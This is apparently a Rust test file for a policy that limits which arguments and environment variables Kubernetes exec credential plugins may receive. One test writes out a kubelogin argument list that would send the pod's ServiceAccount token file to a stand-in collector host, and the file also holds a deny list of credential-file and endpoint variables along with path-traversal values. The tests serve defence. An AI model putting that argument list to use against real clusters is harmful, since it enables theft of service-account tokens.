use super::*;

const TOKEN_FILE: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const AKS: &str = "6dae42f8-4368-4678-94ff-3960e28e3630";
const CLIENT: &str = "0b9c2a9e-5f4e-4f0e-9d6a-3c1f2b7a8e11";

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|a| a.to_string()).collect()
}

/// The default policy's refusal of `command` with `list`, if any.
fn given(command: &str, list: &[&str]) -> Option<String> {
    ExecPolicy::default().refusal("prod", command, &args(list), &[])
}

#[test]
fn the_built_in_entries_parse_and_allow_the_four_default_plugins() {
    for entry in DEFAULT_ARGS {
        entry.parse::<ArgsEntry>().unwrap_or_else(|e| panic!("{entry}: {e}"));
    }
    let policy = ExecPolicy::default();
    assert_eq!(policy.commands().collect::<Vec<_>>(), DEFAULT_COMMANDS);
    for command in DEFAULT_COMMANDS {
        assert_eq!(given(command, &[]), None, "{command} with no argument");
    }
}

#[test]
fn kubelogin_may_not_name_the_operators_token_file_or_a_token_endpoint() {
    // The attack of issue 29: the real plugin would send the operator's ServiceAccount token there.
    let attack = [
        "get-token",
        "--login",
        "workloadidentity",
        "--federated-token-file",
        TOKEN_FILE,
        "--authority-host",
        "https://collector.example/",
    ];
    let refused = given("kubelogin", &attack).expect("refused");
    assert!(refused.contains("\"kubelogin\" of member cluster \"prod\""), "{refused}");
    assert!(refused.contains("\"--federated-token-file\" (argument 4)"), "{refused}");
    assert!(!refused.contains(TOKEN_FILE) && !refused.contains("collector"), "{refused}");
    let endpoint = ["get-token", "--login=workloadidentity", "--authority-host=https://collector.example/"];
    let refused = given("kubelogin", &endpoint).expect("refused");
    assert!(
        refused.contains("\"--authority-host\" (argument 3)") && !refused.contains("collector"),
        "{refused}"
    );
    for named in
        ["--client-certificate", "--token-cache-dir", "--cache-dir", "--redirect-url", "--kubeconfig"]
    {
        assert!(given("kubelogin", &["get-token", named, "/tmp/x"]).is_some(), "{named}");
    }
    let fine =
        ["get-token", "--login", "msi", "--server-id", AKS, "--client-id", CLIENT, "-t", "contoso.example"];
    assert_eq!(given("kubelogin", &fine), None);
    let fine =
        ["get-token", "-l=spn", &format!("--server-id={AKS}"), "--environment=AzureChinaCloud", "--legacy"];
    assert_eq!(given("kubelogin", &fine), None);
}

#[test]
fn values_are_judged_in_both_forms_and_never_shown() {
    for bad in [
        &["get-token", "--login", "devicecode"][..],
        &["get-token", "--login=azurecli"],
        &["get-token", "-l", "interactive"],
        &["get-token", "--server-id", CLIENT],
        &["get-token", "--client-id", "not-a-guid"],
        &["get-token", "--tenant-id", "../../etc"],
        &["get-token", "--legacy=yes"],
        &["get-token", "--client-secret", "has space"],
    ] {
        let refused = given("kubelogin", bad).unwrap_or_else(|| panic!("{bad:?} was allowed"));
        let value = bad.last().unwrap().split_once('=').map_or(*bad.last().unwrap(), |(_, v)| v);
        assert!(refused.contains("not shown") && !refused.contains(value), "{bad:?}: {refused}");
    }
    // A flag's next argument is its value, as pflag reads it, even when it looks like a flag.
    let hidden = given("kubelogin", &["get-token", "--client-id", "--authority-host=https://x/"]).unwrap();
    assert!(hidden.contains("that value of \"--client-id\""), "{hidden}");
    let missing = given("kubelogin", &["get-token", "--client-id"]).unwrap();
    assert!(missing.contains("ends with \"--client-id\", with no value"), "{missing}");
}

#[test]
fn only_the_grammar_of_each_plugin_is_followed() {
    for (command, bad, why) in [
        ("kubelogin", &["--login", "msi", "get-token"][..], "a flag before the subcommand"),
        ("kubelogin", &["convert-kubeconfig", "--kubeconfig", "/x"], "another subcommand"),
        ("kubelogin", &["get-token", "extra"], "a positional argument"),
        ("kubelogin", &["get-token", "--", "--authority-host"], "the end of flags"),
        ("kubelogin", &["get-token", "-lmsi"], "short flags run together"),
        ("kubelogin", &["get-token", "--legacy", "true"], "a switch's value as the next argument"),
        ("kubelogin", &["get-token", "---login", "msi"], "three dashes"),
        ("argocd-k8s-auth", &["token-file"], "a subcommand that sends a file's token"),
        ("argocd-k8s-auth", &["oidc", "--token-file", TOKEN_FILE], "likewise"),
        ("argocd-k8s-auth", &["gcp", "--verbose"], "a flag gcp is not given here"),
        ("aws-iam-authenticator", &["token", "-i", "prod", "--config", "/etc/x"], "a config file"),
        ("aws-iam-authenticator", &["token", "-i", "prod", "-r", "role"], "a role that is no ARN"),
        ("aws-iam-authenticator", &["token", "-i", "prod", "--cache"], "a cache written to disk"),
        ("gke-gcloud-auth-plugin", &["--log_file=/tmp/x"], "a log file"),
        ("gke-gcloud-auth-plugin", &["--version"], "anything but a token"),
    ] {
        assert!(given(command, bad).is_some(), "{why}: {command} {bad:?} was allowed");
    }
    let role = "arn:aws:iam::123456789012:role/fleet/deployer";
    for (command, fine) in [
        ("argocd-k8s-auth", &["aws", "--cluster-name", "prod", "--role-arn", role, "--profile=ops"][..]),
        ("argocd-k8s-auth", &["gcp"]),
        ("argocd-k8s-auth", &["azure"]),
        ("aws-iam-authenticator", &["token", "-i", "prod", "-r", role, "--forward-session-name"]),
        ("aws-iam-authenticator", &["token", "--cluster-id=prod", "-s", "fleetroll", "-e", "ext-1"]),
        ("gke-gcloud-auth-plugin", &["--use_application_default_credentials"]),
        ("gke-gcloud-auth-plugin", &["--use_application_default_credentials=false"]),
    ] {
        assert_eq!(given(command, fine), None, "{command} {fine:?}");
    }
    let refused = given("argocd-k8s-auth", &["token-file"]).unwrap();
    assert!(refused.contains("argocd-k8s-auth aws, argocd-k8s-auth azure, argocd-k8s-auth gcp"), "{refused}");
    assert!(refused.contains("may not be given these arguments"), "{refused}");
}

#[test]
fn commands_and_variables_outside_the_lists_are_refused_and_nothing_runs_where_none_may() {
    let policy = ExecPolicy::default();
    let refused = policy.refusal("prod", "sh", &args(&["-c", "id"]), &[]).unwrap();
    assert!(
        refused.contains("\"sh\" of member cluster \"prod\" is not one this installation runs"),
        "{refused}"
    );
    let off = ExecPolicy::never("is not run by kubectl fleetroll plan");
    let refused = off.refusal("prod", "kubelogin", &[], &[]).unwrap();
    assert_eq!(
        refused,
        "the exec plugin \"kubelogin\" of member cluster \"prod\" is not run by kubectl fleetroll plan"
    );
}

/// Variables the default plugins read that name a file or an endpoint, or make them run other code, from
/// each plugin's documentation: none is allowed by default, for any plugin.
const NEVER_BY_DEFAULT: &[&str] = &[
    "AZURE_FEDERATED_TOKEN_FILE",
    "AZURE_AUTHORITY_HOST",
    "AZURE_CLIENT_CERTIFICATE_PATH",
    "AAD_SERVICE_PRINCIPAL_CLIENT_CERTIFICATE",
    "ARM_CLIENT_CERTIFICATE_PATH",
    "AZURE_CONFIG_DIR",
    "KUBECACHEDIR",
    "SYSTEM_OIDCREQUESTURI",
    "IDENTITY_ENDPOINT",
    "MSI_ENDPOINT",
    "IMDS_ENDPOINT",
    "AAD_SERVER_APPLICATION_ID",
    "ARGOCD_OIDC_TOKEN_FILE",
    "AWS_WEB_IDENTITY_TOKEN_FILE",
    "AWS_CONFIG_FILE",
    "AWS_SHARED_CREDENTIALS_FILE",
    "AWS_CA_BUNDLE",
    "AWS_ENDPOINT_URL",
    "AWS_ENDPOINT_URL_STS",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI",
    "AWS_EC2_METADATA_SERVICE_ENDPOINT",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "GCE_METADATA_HOST",
    "CLOUDSDK_CONFIG",
    "CLOUDSDK_PYTHON",
    "CLOUDSDK_PYTHON_ARGS",
    "KUBECONFIG",
    "HOME",
    "BASH_ENV",
];

fn env(pairs: &[(&'static str, &'static str)]) -> Vec<(&'static str, Option<&'static str>)> {
    pairs.iter().map(|(n, v)| (*n, Some(*v))).collect()
}

#[test]
fn no_plugin_may_be_given_a_variable_naming_a_file_or_an_endpoint_by_default() {
    for entry in DEFAULT_ENV {
        entry.parse::<EnvEntry>().unwrap_or_else(|e| panic!("{entry}: {e}"));
    }
    let policy = ExecPolicy::default();
    for command in DEFAULT_COMMANDS {
        for name in NEVER_BY_DEFAULT {
            let refused = policy.refusal("prod", command, &[], &[(name, Some("/x"))]);
            let refused = refused.unwrap_or_else(|| panic!("{command} may be given {name}"));
            assert!(refused.contains(&format!("may not be given variable \"{name}\"")), "{refused}");
            assert!(!refused.contains("/x"), "{refused}");
        }
    }
    // A name without a value is not set by kube, but is judged all the same.
    assert!(policy.refusal("prod", "kubelogin", &[], &[("AZURE_FEDERATED_TOKEN_FILE", None)]).is_some());
    assert_eq!(policy.refusal("prod", "kubelogin", &[], &[("AZURE_TENANT_ID", None)]), None);
}

#[test]
fn variables_are_allowed_per_plugin_each_with_the_values_it_may_take() {
    let policy = ExecPolicy::default();
    let kubelogin = env(&[
        ("AAD_LOGIN_METHOD", "workloadidentity"),
        ("AZURE_CLIENT_ID", CLIENT),
        ("AZURE_TENANT_ID", "t"),
    ]);
    assert_eq!(policy.refusal("prod", "kubelogin", &[], &kubelogin), None);
    let aws = env(&[("AWS_REGION", "eu-west-1"), ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/r")]);
    assert_eq!(policy.refusal("prod", "aws-iam-authenticator", &[], &aws), None);
    assert_eq!(policy.refusal("prod", "argocd-k8s-auth", &[], &aws), None);
    // What one plugin reads is nothing to another.
    let azure = env(&[("AZURE_CLIENT_ID", CLIENT)]);
    assert!(policy.refusal("prod", "aws-iam-authenticator", &[], &azure).is_some());
    assert!(policy.refusal("prod", "gke-gcloud-auth-plugin", &[], &azure).is_some());
    for (name, value) in [
        ("AAD_LOGIN_METHOD", "devicecode"),
        ("AZURE_CLIENT_ID", "https://collector.example/"),
        ("AZURE_TENANT_ID", "../x"),
        ("AWS_REGION", "collector.example/"),
        ("AWS_STS_REGIONAL_ENDPOINTS", "https://collector.example"),
    ] {
        let command = if name.starts_with("AWS") { "aws-iam-authenticator" } else { "kubelogin" };
        let refused = policy.refusal("prod", command, &[], &[(name, Some(value))]).expect(name);
        assert!(refused.contains(&format!("that value of variable \"{name}\" (not shown)")), "{refused}");
        assert!(!refused.contains(value), "{refused}");
    }
}

#[test]
fn kinds_take_what_their_names_say() {
    let cases: &[(Kind, &[&str], &[&str])] = &[
        (
            Kind::Id,
            &["prod", "eu-west-1", "contoso.onmicrosoft.com", "a_b"],
            &["", "-x", ".x", "a/b", "a b", "a=b"],
        ),
        (
            Kind::Guid,
            &[AKS, "ABCDEF01-2345-6789-abcd-ef0123456789"],
            &["6dae42f8", "6dae42f8-4368-4678-94ff-3960e28e363g"],
        ),
        (
            Kind::Arn,
            &["arn:aws:iam::123456789012:role/x", "arn:aws-us-gov:iam::123456789012:role/a/b"],
            &[
                "arn:aws:iam::12345:role/x",
                "arn:aws:s3:::bucket",
                "arn:aws:iam::123456789012:user/x",
                "role/x",
            ],
        ),
        (
            Kind::Region,
            &["eu-west-1", "us-gov-east-1", "ap-southeast-2"],
            &["eu", "x.example.com", "eu-west", "eu-west-123"],
        ),
        (Kind::Secret, &["a~b.c_d-e"], &["", "a b", "a\nb"]),
        (Kind::Switch, &["true", "false"], &["yes", "1", ""]),
    ];
    for (kind, good, bad) in cases {
        for v in *good {
            assert!(kind.admits(v), "{kind:?} {v:?}");
        }
        for v in *bad {
            assert!(!kind.admits(v), "{kind:?} {v:?}");
        }
    }
}

#[test]
fn entries_are_parsed_strictly() {
    let parsed: ArgsEntry = "kubelogin get-token=--tenant-id|-t, --legacy={switch}".parse().unwrap();
    assert_eq!(parsed.path, ["get-token"]);
    assert_eq!(parsed.flags[0].names, ["--tenant-id", "-t"]);
    assert_eq!(parsed.flags[0].kinds, [Kind::Id]);
    assert_eq!(parsed.flags[1].kinds, [Kind::Switch]);
    assert_eq!("".parse::<ArgsEntry>().unwrap(), ArgsEntry::default(), "the empty entry allows nothing");
    for bad in [
        "kubelogin",
        "=--login",
        "kubelogin get-token=login",
        "kubelogin get-token=--login=",
        "kubelogin get-token=--login={any}",
        "kubelogin -x=--login",
        "kubelogin get-token=--lo\ngin",
        "kubelogin get-token=--login=spn|{switch}",
    ] {
        assert!(bad.parse::<ArgsEntry>().is_err(), "{bad:?}");
    }
    for bad in ["kubelogin=PATH", "kubelogin=LD_PRELOAD", "kubelogin=AZURE_*", "kubelogin=1X", "a b=X"] {
        assert!(bad.parse::<EnvEntry>().is_err(), "{bad:?}");
    }
}

proptest::proptest! {
    /// Whatever an operator writes or a Secret asks, parsing and judging answer and never panic.
    #[test]
    fn parsing_and_judging_never_panic(
        entry in "[a-z -]{0,12}=([-a-z|]{0,12}(=[{}a-z|/:.-]{0,16})?,?){0,4}|\\PC{0,40}",
        asked in proptest::collection::vec("-{0,3}[a-z_-]{0,12}(=\\PC{0,12})?|\\PC{0,12}", 0..8),
        env in proptest::collection::vec(("[A-Z_]{0,12}", proptest::option::of("\\PC{0,12}")), 0..4),
    ) {
        if let Ok(e) = entry.parse::<EnvEntry>() {
            let policy = ExecPolicy::new(std::slice::from_ref(&e.command), &[], std::slice::from_ref(&e));
            let env: Vec<(&str, Option<&str>)> = env.iter().map(|(n, v)| (n.as_str(), v.as_deref())).collect();
            let _ = policy.map(|p| p.refusal("m", &e.command, &[], &env));
        }
        let policy = match entry.parse::<ArgsEntry>() {
            Ok(e) => ExecPolicy::new(std::slice::from_ref(&e.command), std::slice::from_ref(&e), &[])
                .unwrap_or_default(),
            Err(_) => ExecPolicy::default(),
        };
        let env: Vec<(&str, Option<&str>)> = env.iter().map(|(n, v)| (n.as_str(), v.as_deref())).collect();
        for command in policy.commands().map(str::to_string).collect::<Vec<_>>() {
            let _ = policy.refusal("m", &command, &asked, &env);
        }
        let _ = ExecPolicy::default().refusal("m", "kubelogin", &asked, &env);
    }
}
